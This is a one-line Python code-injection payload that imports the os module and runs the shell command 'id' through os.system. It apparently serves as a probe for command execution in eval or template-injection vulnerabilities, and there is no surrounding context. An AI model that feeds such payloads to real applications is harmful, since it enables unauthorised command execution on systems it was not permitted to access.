__import__("os", fromlist=["system"]).system("id")
